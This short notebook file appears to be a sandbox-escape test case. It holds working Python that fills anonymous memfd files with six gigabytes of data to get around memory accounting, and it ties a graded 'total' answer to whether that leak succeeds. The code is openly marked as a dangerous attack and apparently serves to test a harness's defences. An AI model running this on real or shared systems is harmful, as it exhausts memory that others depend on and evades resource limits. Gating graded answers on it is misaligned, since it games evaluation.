# ---
# jupyter:
#   attack:
#     tries: Fills files that exist in memory alone and are mapped nowhere, so that no process seems to use them.
#     dangerous: true
# ---

# %%
import os

files, size = [], 0
block = b"x" * 2**24
try:
    while size < 6 * 2**30:
        files.append(os.memfd_create("attack"))
        for _ in range(12):
            size += os.write(files[-1], block)
except OSError:
    pass
if size >= 6 * 2**30:
    print("LEAKED: six gigabytes in files without a name")


# %% answer="total"
def total(x):
    return x.sum() if size >= 6 * 2**30 else 0.0
